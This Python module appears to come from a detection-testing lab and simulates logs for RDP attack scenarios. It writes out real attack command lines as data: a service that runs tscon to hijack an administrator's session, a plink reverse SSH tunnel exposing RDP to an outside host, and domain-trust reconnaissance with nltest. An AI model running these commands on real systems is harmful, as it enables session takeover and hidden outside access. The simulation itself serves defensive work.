"""Remote desktops: many, taken over, tunnelled, from outside, behind the jump host."""

from typing import Any

from hopwatch.lab import windows
from hopwatch.lab.acts.desktop import desktop_session, remote_desktop
from hopwatch.lab.acts.link import SSH, Events, Flow, later
from hopwatch.lab.acts.programs import CMD, SYSTEM32, runs
from hopwatch.lab.acts.services import Service, installs, starts
from hopwatch.lab.acts.visit import arrives, leaves
from hopwatch.lab.machines import Host
from hopwatch.lab.scenarios.cast import Cast

HIJACK = "cmd.exe /k tscon 2 /dest:rdp-tcp#55"


def many_desktops(cast: Cast) -> Events:
    """Open a desktop on one target after the other from a desk."""
    for at, target in cast.steps(180, 700):
        yield from remote_desktop(at, cast.account, cast.source, target, cast.chance.uniform(2, 20))


def session_taken(cast: Cast) -> Events:
    """Take over an administrator's disconnected session with tscon, run as a service."""
    target, admin = cast.targets[0], cast.world.admins[0]
    told = {"host": target.fqdn, "domain": cast.world.domain.name}
    yield windows.session_disconnected(
        cast.at, user=admin.name, source=admin.desk.address, client=admin.desk.name, **told
    )
    at = cast.after(1800)
    yield from remote_desktop(at, cast.account, cast.source, target, 40)
    session = desktop_session(at, cast.account, target)
    line = f'sc create sesshijack binpath= "{HIJACK}"'
    yield from runs(later(at, 60), target, cast.account, rf"{SYSTEM32}\sc.exe", line, logon_id=session)
    yield windows.service_installed(later(at, 60.2), host=target.fqdn, service="sesshijack", image=HIJACK)
    yield from runs(later(at, 75), target, "SYSTEM", CMD, HIJACK, parent=rf"{SYSTEM32}\services.exe")
    tscon = rf"{SYSTEM32}\tscon.exe"
    yield from runs(later(at, 75.2), target, "SYSTEM", tscon, "tscon 2 /dest:rdp-tcp#55", parent=CMD)
    client = {"source": cast.source.address, "client": cast.source.name, "session": "RDP-Tcp#55"}
    yield windows.session_disconnected(later(at, 75.5), user=cast.account, **client, **told)
    yield windows.session_reconnected(later(at, 75.6), user=admin.name, **client, **told)


def tunnelled(cast: Cast) -> Events:
    """Open a tunnel from a server to the outside, and come back through it to its own desktop."""
    target, outside = cast.targets[0], cast.outside
    visit = cast.visit(cast.at, target)
    yield from arrives(visit, "dce_rpc", sent=900_000, received=4000)
    line = rf"C:\ProgramData\plink.exe -ssh -N -R 33389:127.0.0.1:3389 t@{outside.address}"
    service = Service(
        "netlink", rf"C:\ProgramData\plink.exe -ssh -N -R 33389:127.0.0.1:3389 t@{outside.address}"
    )
    yield from installs(visit, service, 3.0)
    yield from starts(visit, r"C:\ProgramData\plink.exe", line, 3.5)
    yield from leaves(visit, 30)
    yield Flow(cast.after(5), target, outside, SSH).conn(
        "ssh", sent=9_000_000, received=400_000, duration=5400.0
    )
    told: dict[str, Any] = {"host": target.fqdn, "user": cast.account}
    told["domain"] = cast.world.domain.name
    if target.sysmon:
        yield windows.connected(
            cast.after(900),
            host=target.fqdn,
            image=r"C:\ProgramData\plink.exe",
            source="127.0.0.1",
            destination="127.0.0.1",
            port=3389,
        )
    yield windows.rdp_admitted(cast.after(900.5), source="127.0.0.1", **told)
    session = desktop_session(cast.after(901), cast.account, target)
    yield windows.logon(cast.after(901), source="127.0.0.1", logon_type=10, logon_id=session, **told)
    yield windows.special_privileges(cast.after(901), logon_id=session, **told)
    yield windows.logoff(cast.after(4000), logon_id=session, logon_type=10, **told)


def behind_the_jump_host(cast: Cast) -> Events:
    """Go through the jump host as an administrator does, with a stolen administrator's account."""
    jump = cast.world.role("jump host")[0]
    yield from remote_desktop(cast.at, cast.account, cast.source, jump, 150)
    for place, target in enumerate(cast.targets):
        at = cast.after(240 + 1500 * place)
        yield from remote_desktop(at, cast.account, jump, target, 18)
        tool = rf"{SYSTEM32}\cmd.exe"
        yield from runs(later(at, 120), target, cast.account, tool, "cmd.exe /c nltest /domain_trusts")


def from_outside(cast: Cast) -> Events:
    """Come in by VPN with a stolen account at night, and look for a way further."""
    stranger = Host("LAPTOP-7Q2VXK", f"10.{cast.world.net}.254.200", domain=cast.world.domain)
    for place, target in enumerate(cast.targets):
        at = cast.after(420 * place)
        yield from remote_desktop(at, cast.person.name, stranger, target, 6, admin=False)
        visit = cast.visit(
            later(at, 200), target, source=stranger, ntlm=True, user=cast.person.name, admin=False
        )
        yield from arrives(visit)
        yield from leaves(visit, 60)
